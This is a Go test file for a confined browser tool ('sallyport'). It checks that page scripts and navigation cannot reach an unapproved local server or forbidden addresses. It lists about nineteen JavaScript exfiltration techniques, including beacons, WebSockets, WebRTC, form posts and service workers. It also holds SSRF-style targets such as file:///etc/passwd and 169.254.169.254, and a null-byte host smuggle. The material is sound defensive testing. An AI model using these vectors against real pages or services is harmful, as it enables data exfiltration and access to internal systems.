package browser_test

import (
	"fmt"
	"net"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/sallyport/sallyport"
)

// foreign is a server that no role of these tests reaches. It counts who comes, over TCP and
// UDP.
type foreign struct {
	addr, udp string
	seen      atomic.Int64
	first     atomic.Value
}

func newForeign(t testing.TB) *foreign {
	t.Helper()
	f := &foreign{}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	u, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _, _ = l.Close(), u.Close() })
	f.addr, f.udp = l.Addr().String(), u.LocalAddr().String()
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			f.seen.Add(1)
			head := make([]byte, 200)
			_ = c.SetDeadline(time.Now().Add(time.Second))
			n, _ := c.Read(head)
			f.first.CompareAndSwap(nil, string(head[:n]))
			_, _ = c.Write([]byte("HTTP/1.1 200 OK\r\nContent-Length: 2\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n\r\nok"))
			_ = c.Close()
		}
	}()
	go func() {
		packet := make([]byte, 2000)
		for {
			if _, _, err := u.ReadFrom(packet); err != nil {
				return
			}
			f.seen.Add(1)
		}
	}()
	return f
}

// escapes are the ways in which a page tries to reach FOREIGN and UDP; each says in the
// title what came of it.
var escapes = map[string]string{
	"fetch":      `fetch('http://FOREIGN/').then(() => done('out'), () => done('kept'))`,
	"no-cors":    `fetch('http://FOREIGN/', {mode: 'no-cors', method: 'POST', body: 'secret'}).then(r => done('kept'), () => done('kept'))`,
	"picture":    `const i = new Image(); i.onload = i.onerror = () => done('kept'); i.src = 'http://FOREIGN/i.png'`,
	"script":     `const e = document.createElement('script'); e.onload = () => done('kept'); e.onerror = () => done('kept'); e.src = 'http://FOREIGN/s.js'; document.head.append(e)`,
	"style":      `const e = document.createElement('style'); e.textContent = '@import "http://FOREIGN/s.css"; body { background: url(http://FOREIGN/b.png) }'; document.head.append(e); setTimeout(() => done('kept'), 300)`,
	"frame":      `const e = document.createElement('iframe'); e.onload = () => done('kept'); e.src = 'http://FOREIGN/'; document.body.append(e)`,
	"socket":     `const w = new WebSocket('ws://FOREIGN/'); w.onopen = () => done('out'); w.onerror = () => done('kept')`,
	"events":     `const s = new EventSource('http://FOREIGN/'); s.onerror = () => { s.close(); done('kept') }`,
	"beacon":     `navigator.sendBeacon('http://FOREIGN/', 'secret'); setTimeout(() => done('kept'), 300)`,
	"hints":      `for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'prerender', 'modulepreload', 'icon']) { const l = document.createElement('link'); l.rel = rel; l.href = 'http://FOREIGN/' + rel; document.head.append(l) } setTimeout(() => done('kept'), 500)`,
	"ping":       `const a = document.createElement('a'); a.href = '#x'; a.ping = 'http://FOREIGN/'; document.body.append(a); a.click(); setTimeout(() => done('kept'), 300)`,
	"worker":     `const w = new Worker(URL.createObjectURL(new Blob(["fetch('http://FOREIGN/').then(() => postMessage('out'), () => postMessage('kept'))"]))); w.onmessage = e => done(e.data)`,
	"service":    `navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready).then(() => { navigator.serviceWorker.onmessage = e => done(e.data); navigator.serviceWorker.ready.then(r => r.active.postMessage('go')) }, e => done('kept: ' + e))`,
	"form":       `document.body.innerHTML = '<form action="http://FOREIGN/" method=post target=f><input name=a value=secret></form><iframe name=f></iframe>'; document.querySelector('iframe').onload = () => done('kept'); document.forms[0].submit()`,
	"away":       `setTimeout(() => { location = 'http://FOREIGN/' }, 50); done('kept')`,
	"popup":      `open('http://FOREIGN/'); setTimeout(() => done('kept'), 300)`,
	"webrtc":     `const p = new RTCPeerConnection({iceServers: [{urls: 'stun:UDP'}, {urls: 'turn:FOREIGN?transport=tcp', username: 'a', credential: 'b'}]}); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o)); setTimeout(() => done('kept'), 1500)`,
	"transport":  `try { new WebTransport('https://FOREIGN/').ready.then(() => done('out'), () => done('kept')) } catch { done('kept') }`,
	"redirected": `fetch('/redirect').then(() => done('out'), () => done('kept'))`,
}

const escapePage = `<!doctype html><title>trying</title><body><script>const done = s => { document.title = s }; SCRIPT</script>`

func newEscapeSite(t *testing.T, f *foreign) *site {
	t.Helper()
	pages := map[string]string{}
	for name, script := range escapes {
		pages["/"+name] = strings.NewReplacer("FOREIGN", f.addr, "UDP", f.udp).Replace(strings.Replace(escapePage, "SCRIPT", script, 1))
	}
	s := newSite(t, pages)
	s.answer("/worker.js", "text/javascript", strings.ReplaceAll(`onmessage = e => fetch('http://FOREIGN/').then(() => e.source.postMessage('out'), () => e.source.postMessage('kept'))`, "FOREIGN", f.addr))
	s.redirect("/redirect", "http://"+f.addr+"/")
	return s
}

func TestAPageReachesTheGrantAlone(t *testing.T) {
	t.Parallel()
	f := newForeign(t)
	s := newEscapeSite(t, f)
	g := newGate(t, s.addr)
	for name := range escapes {
		g.must("navigate", named{"url": s.URL + "/" + name})
		title := ""
		for range 100 {
			if title = g.title(); title == "" || title != "trying" {
				break
			}
			time.Sleep(50 * time.Millisecond)
		}
		if title == "trying" || strings.HasPrefix(title, "out") {
			t.Errorf("%s: the page says %q", name, title)
		}
	}
	// The page itself goes there.
	if got := g.in("s", "navigate", named{"url": s.URL + "/redirect"}); !got.OK || fmt.Sprint(got.Structured["status"]) != "403" || !strings.Contains(got.Value, "refused to the page: "+f.addr) {
		t.Errorf("a redirect out of the grant: %+v, want the proxy's refusal", got)
	}
	if n := f.seen.Load(); n > 0 {
		t.Errorf("the foreign server was reached %d times, first with %q", n, f.first.Load())
	}
}

// TestAPageReachesWhatIsGranted shows that the ways of the test above are ways.
func TestAPageReachesWhatIsGranted(t *testing.T) {
	t.Parallel()
	f := newForeign(t)
	s := newEscapeSite(t, f)
	g := newGate(t, s.addr, f.addr)
	for _, name := range []string{"fetch", "no-cors", "picture", "script", "style", "frame", "socket", "events", "beacon", "hints", "worker", "service", "form", "popup", "redirected"} {
		before := f.seen.Load()
		g.must("navigate", named{"url": s.URL + "/" + name})
		for range 100 {
			if f.seen.Load() > before {
				break
			}
			time.Sleep(50 * time.Millisecond)
		}
		if f.seen.Load() == before {
			t.Errorf("%s: the granted server was not reached", name)
		}
	}
}

func TestAddressesThatAreNotOpened(t *testing.T) {
	t.Parallel()
	f := newForeign(t)
	s := newSite(t, map[string]string{"/": `<title>links</title><a href="file:///etc/passwd">file</a><a href="chrome://version">chrome</a>` +
		`<a href="data:text/html,<title>data</title>">data</a><a href="view-source:http://` + f.addr + `/">source</a><a href="javascript:document.title='ran'">script</a>`})
	g := newGate(t, s.addr)
	for address, want := range map[string]string{
		"file:///etc/passwd":                "only absolute http and https",
		"chrome://version":                  "only absolute http and https",
		"data:text/html,x":                  "only absolute http and https",
		"javascript:alert(1)":               "only absolute http and https",
		"about:blank":                       "only absolute http and https",
		"view-source:" + s.URL:              "only absolute http and https",
		"ftp://example.com/":                "only absolute http and https",
		"/etc/passwd":                       "only absolute http and https",
		"http://user:word@" + s.addr:        "user name",
		"http://" + f.addr + "/":            "HOST_NOT_ALLOWED",
		"http://169.254.169.254/latest":     "HOST_NOT_ALLOWED",
		"http://10.0.0.1/":                  "HOST_NOT_ALLOWED",
		"http://[::1]/":                     "HOST_NOT_ALLOWED",
		"https://example.com/":              "HOST_NOT_ALLOWED",
		"http://" + s.addr + "\x00.evil.io": "cannot be read",
	} {
		wants(t, g.refused("navigate", named{"url": address}), want)
	}
	g.must("navigate", named{"url": s.URL})
	for _, link := range []string{"file", "chrome", "data", "source"} {
		g.must("click", named{"ref": g.ref(`link "` + link + `"`)})
		if got := g.title(); got != "links" {
			t.Errorf("after a click on the link to %s, the title is %q", link, got)
		}
	}
	if got := g.must("evaluate", named{"expression": "fetch('file:///etc/passwd').then(r => r.text()).catch(e => 'kept')"}); !strings.Contains(got, "kept") {
		t.Errorf("a page read a file: %s", got)
	}
	if n := f.seen.Load(); n > 0 {
		t.Errorf("the foreign server was reached %d times", n)
	}
}

func TestNoBrowserRunsUnconfined(t *testing.T) {
	t.Parallel()
	f := newForeign(t)
	g := newGateAt(t, sallyport.LevelNone, f.addr)
	wants(t, g.refused("navigate", named{"url": "http://" + f.addr + "/"}), "not_available", "only where children are confined")
	if n := f.seen.Load(); n > 0 {
		t.Errorf("a browser that nothing confines reached a server %d times", n)
	}
}

func TestScriptsNeedAPermission(t *testing.T) {
	t.Parallel()
	g := newGate(t)
	res := g.Call(t.Context(), &sallyport.Caller{Principal: sallyport.Principal{Name: "bob"}, Session: "s", Personality: "surfer"},
		sallyport.Request{Tool: "browser_evaluate", Args: []byte(`{"expression":"1"}`)})
	if res.Code != sallyport.CodePermissionDenied || !strings.Contains(res.Error, "browser:evaluate") {
		t.Errorf("browser_evaluate without the permission: %+v", res)
	}
}
